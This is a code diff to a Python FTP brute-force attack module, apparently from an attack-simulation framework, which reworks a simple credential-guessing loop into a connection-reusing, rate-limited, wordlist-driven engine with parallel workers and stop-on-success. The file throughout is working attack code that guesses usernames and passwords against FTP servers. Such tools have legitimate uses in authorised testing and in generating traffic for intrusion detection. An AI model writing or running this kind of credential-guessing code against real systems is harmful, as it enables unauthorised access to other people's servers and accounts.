@@ -1,76 +1,85 @@
 """FTP Brute Force attack implementation"""
 
-import asyncio
 import logging
 from .base_attack import BaseAttack
+from .brute_force import BruteForceEngine, StreamSession, credential_stream, resolve_wordlist
 
 logger = logging.getLogger(__name__)
 
 
+class FTPSession(StreamSession):
+    """FTP control connection; servers allow several USER/PASS rounds before disconnecting"""
+    
+    def __init__(self, host: str, port: int, max_attempts: int = 3):
+        super().__init__(host, port)
+        self.max_attempts = max_attempts
+    
+    async def _reply(self) -> int:
+        """Read one (possibly multi-line) reply; returns its code"""
+        line = await self.readline()
+        code = line[:3]
+        if line[3:4] == b"-":
+            # Multi-line reply ends with "<code> "
+            while not line.startswith(code + b" "):
+                line = await self.readline()
+        try:
+            return int(code)
+        except ValueError:
+            raise ConnectionError(f"unexpected FTP reply: {line[:40]!r}")
+    
+    async def open(self):
+        await super().open()
+        # Read welcome banner
+        if await self._reply() != 220:
+            raise ConnectionError("FTP service not ready")
+    
+    async def attempt(self, username: str, password: str):
+        self.writer.write(f"USER {username}\r\n".encode())
+        code = await self._reply()
+        if code == 230:
+            return True
+        if code != 331:
+            return False
+        
+        self.writer.write(f"PASS {password}\r\n".encode())
+        code = await self._reply()
+        if code == 421:
+            await self.close()  # too many failures - server is closing
+        return code == 230
+
+
 class FTPBruteForce(BaseAttack):
     """FTP brute force attack"""
     
+    DEFAULT_PORT = 21
+    INTENSITY_RATES = {'low': 2, 'medium': 10, 'high': 50}  # login attempts/s
+    DEFAULT_USERNAMES = "ftp_usernames.txt"
+    DEFAULT_PASSWORDS = "ftp_passwords.txt"
+    
     def get_attack_type(self) -> str:
         return "FTP-BruteForce"
     
-    def get_default_port(self) -> int:
-        return 21
-    
-    async def _try_login(self, username, password):
-        """Attempt FTP login"""
-        port = self.target_port or self.get_default_port()
-        
-        try:
-            reader, writer = await asyncio.wait_for(
-                asyncio.open_connection(self.target_ip, port),
-                timeout=5
-            )
-            
-            # Read welcome banner
-            await asyncio.wait_for(reader.read(1024), timeout=2)
-            
-            # Send USER command
-            writer.write(f"USER {username}\r\n".encode())
-            await writer.drain()
-            await asyncio.wait_for(reader.read(1024), timeout=2)
-            
-            # Send PASS command
-            writer.write(f"PASS {password}\r\n".encode())
-            await writer.drain()
-            await asyncio.wait_for(reader.read(1024), timeout=2)
-            
-            self.packets_sent += 3
-            
-            writer.close()
-            await writer.wait_closed()
-            
-        except Exception as e:
-            logger.debug(f"FTP login attempt failed: {username}:{password} - {e}")
-    
     async def _execute_attack(self):
         """Execute FTP brute force"""
-        duration = self.parameters.get('duration', 300)
-        
-        usernames = ['ftp', 'admin', 'user', 'test', 'anonymous', 'guest']
-        passwords = ['ftp', 'password', '123456', 'admin', '', 'test']
-        
-        logger.info(f"FTP-BruteForce: Starting attack on {self.target_ip}:21")
+        port = self.target_port or self.get_default_port()
+        duration = self.parameters.get('duration') or 300
+        attempts_per_connection = self.parameters.get('attempts_per_connection', 3)
         
-        start_time = asyncio.get_event_loop().time()
+        logger.info(f"FTP-BruteForce: Starting attack on {self.target_ip}:{port}")
         
-        while (asyncio.get_event_loop().time() - start_time) < duration:
-            tasks = []
-            for username in usernames:
-                for password in passwords:
-                    task = self._try_login(username, password)
-                    tasks.append(task)
-            
-            await asyncio.gather(*tasks, return_exceptions=True)
-            
-            if self.packets_sent % 100 == 0:
-                logger.info(f"FTP-BruteForce: {self.packets_sent} attempts")
-            
-            await asyncio.sleep(1)
+        engine = BruteForceEngine(
+            credential_stream(
+                resolve_wordlist(self.parameters.get('usernames_file', self.DEFAULT_USERNAMES)),
+                resolve_wordlist(self.parameters.get('passwords_file', self.DEFAULT_PASSWORDS)),
+                worker_index=self.parameters.get('worker_index', 0),
+                worker_count=self.parameters.get('worker_count', 1)
+            ),
+            lambda: FTPSession(self.target_ip, port, attempts_per_connection),
+            self.rate,
+            self.record_sent,
+            concurrency=self.parameters.get('concurrency', 10),
+            stop_on_success=self.parameters.get('stop_on_success', False)
+        )
+        await engine.run(duration)
         
-        logger.info(f"FTP-BruteForce: Attack complete. Total attempts: {self.packets_sent}")
-
+        logger.info(f"FTP-BruteForce: Attack complete. Total attempts: {self.packets_sent} ({engine.get_stats()})")